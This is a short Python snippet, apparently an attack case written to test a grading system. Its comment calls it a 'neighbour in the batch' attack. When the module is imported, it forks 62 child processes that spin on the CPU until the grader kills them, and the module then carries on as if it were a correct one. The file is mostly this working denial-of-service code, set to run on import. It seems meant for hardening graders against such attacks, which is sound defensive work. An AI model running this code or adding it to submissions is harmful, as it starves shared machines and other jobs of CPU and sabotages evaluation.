

# Attack: a neighbour in the batch. At import, 62 processes spin on the CPU until the grader ends
# them, then the module goes on as a correct one.
def _busy(count=62):
    import os as _os

    for _ in range(count):
        try:
            if _os.fork() == 0:
                while True:
                    pass
        except OSError:
            break


_busy()
